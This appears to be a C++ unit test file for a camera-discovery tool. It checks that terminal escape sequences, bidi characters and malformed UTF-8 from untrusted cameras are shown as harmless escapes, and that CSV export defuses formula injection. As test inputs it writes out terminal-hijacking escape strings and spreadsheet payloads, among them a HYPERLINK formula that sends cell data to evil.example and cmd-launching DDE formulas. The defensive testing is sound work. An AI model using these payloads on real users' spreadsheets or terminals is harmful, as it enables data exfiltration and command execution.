// What a hostile camera's texts become on their way to a person (terminal,
// journal, window) and into a spreadsheet.
#include "visible_text.h"

#include <gtest/gtest.h>

#include <cstring>
#include <string>

#include "camera_records.h"
#include "debug_trace.h"
#include "record_json.h"
#include "trace_capture.h"

namespace {

using platform::VisibleMessage;
using platform::VisibleText;

// True when `text` holds a C0, DEL or C1 control, raw or as UTF-8.
bool Steers(const std::string& text) {
    for (std::size_t i = 0; i < text.size(); ++i) {
        const auto c = static_cast<unsigned char>(text[i]);
        if (c < 0x20 || c == 0x7F || (c >= 0x80 && c <= 0x9F)) return true;
        if (c == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) <= 0x9F) return true;
        if (c >= 0x80) i += c >= 0xF0 ? 3 : c >= 0xE0 ? 2 : 1;  // a character VisibleText let through
    }
    return false;
}

TEST(VisibleText, TerminalControlsShowAsEscapes) {
    // Retitles the terminal, clears it and starts a fake row.
    EXPECT_EQ(VisibleText("\x1b]0;owned\x07\x1b[2J\nFake\t10.0.0.1\r"),
              "\\x1b]0;owned\\x07\\x1b[2J\\x0aFake\\x0910.0.0.1\\x0d");
    EXPECT_EQ(VisibleText(std::string("a\0b\x7f", 4)), "a\\x00b\\x7f");
    // C1 (CSI, NEL) as UTF-8 and as the raw byte alike.
    EXPECT_EQ(VisibleText("\xc2\x9b"
                          "2J\xc2\x85"),
              "\\x9b2J\\x85");
    EXPECT_EQ(VisibleText("\x9b"
                          "2J\x85\x80\x9f"),
              "\\x9b2J\\x85\\x80\\x9f");
    // Text that reorders or breaks the line in a terminal or a widget.
    EXPECT_EQ(VisibleText("Cam\xe2\x80\xae"
                          "1.0.0.01\xe2\x80\xa8x\xe2\x81\xa6"),
              "Cam\\u202e1.0.0.01\\u2028x\\u2066");
    // A name that spells an escape stays apart from one that holds the control.
    EXPECT_EQ(VisibleText("\\x1b"), "\\\\x1b");
    EXPECT_NE(VisibleText("\\x1b"), VisibleText("\x1b"));

    // Whatever bytes come, nothing a terminal would act on goes out.
    for (int a = 0; a < 256; ++a)
        for (int b = 0; b < 256; ++b) {
            const char bytes[] = {static_cast<char>(a), static_cast<char>(b), '\xbf', '\x9b'};
            const std::string shown = VisibleText(std::string_view(bytes, 4));
            if (Steers(shown)) FAIL() << a << " " << b << ": " << shown;
        }
}

TEST(VisibleText, BrokenUtf8ShowsByteByByte) {
    EXPECT_EQ(VisibleText("\x80"), "\\x80");                             // stray continuation
    EXPECT_EQ(VisibleText("\xc0\xaf"), "\\xc0\\xaf");                    // overlong '/'
    EXPECT_EQ(VisibleText("\xe0\x80\xaf"), "\\xe0\\x80\\xaf");           // overlong, three bytes
    EXPECT_EQ(VisibleText("\xf0\x80\x80\xaf"), "\\xf0\\x80\\x80\\xaf");  // overlong, four bytes
    EXPECT_EQ(VisibleText("\xed\xa0\x80"), "\\xed\\xa0\\x80");           // a surrogate
    EXPECT_EQ(VisibleText("\xf4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80");  // past U+10FFFF
    EXPECT_EQ(VisibleText("\xfe\xff"), "\\xfe\\xff");
    // Cut sequences, at the end and before other text: what follows is read afresh.
    EXPECT_EQ(VisibleText("\xe3\x82"), "\\xe3\\x82");
    EXPECT_EQ(VisibleText("\xe3\x82"
                          "A\xe3\x82\xab"),
              "\\xe3\\x82A\xe3\x82\xab");
    EXPECT_EQ(VisibleText("\xf0\x9f\x93"
                          "\x1b"),
              "\\xf0\\x9f\\x93\\x1b");
    EXPECT_EQ(VisibleText("\xc3(\xa0\xe2(\xa1"), "\\xc3(\\xa0\\xe2(\\xa1");
}

TEST(VisibleText, PrintableTextAndTheMessagesOwnLineBreakKept) {
    for (const char* kept : {"Lobby", "Caf\xc3\xa9", "\xe3\x82\xab\xe3\x83\xa1\xe3\x83\xa9", "Gate \xf0\x9f\x93\xb7",
                             "Yard #1 & GMT+1 50%", "\xc2\xa0\xc3\xbf", ""})
        EXPECT_EQ(VisibleText(kept), kept);
    EXPECT_EQ(platform::Latin1ToUtf8("Caf\xe9\x85"), "Caf\xc3\xa9\xc2\x85");

    // The program's line break stands; a camera's explanation cannot add a line.
    EXPECT_EQ(VisibleMessage("Query for 2.4 failed with\nno\nSuccess\x1b[2J"),
              "Query for 2.4 failed with\nno\\x0aSuccess\\x1b[2J");
    EXPECT_EQ(VisibleMessage("Query for timezones failed with -1\r\nCamera http port may not be 80"),
              "Query for timezones failed with -1\r\nCamera http port may not be 80");
    EXPECT_EQ(VisibleMessage("Query failed with \x1b[31m"), "Query failed with \\x1b[31m");

    // Every trace line, whichever sink takes it, is one visible line.
    TraceCapture trace;
    DebugTrace("Got record %s", "Cam\x1b[2J\nvantrel: fake\x07");
    DebugTrace("iface list:\n");
    EXPECT_EQ(trace.Lines(),
              (std::vector<std::string>{"Got record Cam\\x1b[2J\\x0avantrel: fake\\x07", "iface list:"}));
}

TEST(CsvCells, FormulaLeadsBecomeText) {
    CameraRecord r = MakeRecord(
        {.hw = "02:e5:a1:0a:0b:0c", .ip = "10.1.2.3", .subnet = "255.0.0.0", .gateway = "10.1.2.1", .drovik = true});
    auto row = [&](const char* name, const char* product = "ZC-100") {
        std::strcpy(r.name, name);
        std::strcpy(r.productName, product);
        return RecordToCsv(r);
    };
    const std::string head = "02:e5:a1:0a:0b:0c,10.1.2.3,255.0.0.0,10.1.2.1,";
    EXPECT_EQ(row("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
              head + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",ZC-100,drovik");
    EXPECT_EQ(row("+cmd|' /C calc'!A0", "@SUM(1+1)"), head + "'+cmd|' /C calc'!A0,'@SUM(1+1),drovik");
    EXPECT_EQ(row("-2+3+cmd|' /C calc'!A0"), head + "'-2+3+cmd|' /C calc'!A0,ZC-100,drovik");
    EXPECT_EQ(row("\t=1+1"), head + "'\t=1+1,ZC-100,drovik");
    EXPECT_EQ(row("\r=1+1"), head + "\"'\r=1+1\",ZC-100,drovik");
    // One leading ' is the plan reader's to drop: a name that has one keeps it.
    EXPECT_EQ(row("'quoted"), head + "''quoted,ZC-100,drovik");
    // Ordinary names, a sign inside one included, go as they are.
    EXPECT_EQ(row("Hall-2 =east", "ZC-100"), head + "Hall-2 =east,ZC-100,drovik");
    EXPECT_EQ(row("Caf\xe9"), head + "Caf\xc3\xa9,ZC-100,drovik");
}

}  // namespace
